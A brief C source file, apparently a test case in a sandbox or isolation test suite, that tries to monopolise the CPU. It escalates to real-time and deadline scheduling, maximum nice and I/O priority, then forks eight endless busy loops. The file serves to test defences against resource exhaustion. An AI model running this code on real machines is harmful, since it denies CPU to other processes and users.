/* Takes all of the CPU, at the highest priority that it may have (sched(7), setpriority(2)). */
#include "common/attack.h"

static void attempt(void) {
    struct sched_param first = {99};
    TRY(sched_setscheduler(0, SCHED_FIFO, &first));
    TRY(sched_setscheduler(0, SCHED_RR, &first));
    struct {
        uint32_t size, policy;
        uint64_t flags;
        int32_t nice;
        uint32_t priority;
        uint64_t runtime, deadline, period;
    } deadline = {48, 6, 0, 0, 0, 9000000, 10000000, 10000000};
    TRY(syscall(SYS_sched_setattr, 0, &deadline, 0));
    TRY(setpriority(PRIO_PROCESS, 0, -20));
    TRY(syscall(SYS_ioprio_set, 1, 0, 1 << 13));
    put("/proc/self/autogroup", "-20");
    for (int n = 0; n < 8; n++) {
        if (fork() == 0) {
            for (;;) {
                __asm__ volatile("");
            }
        }
    }
    hold();
}
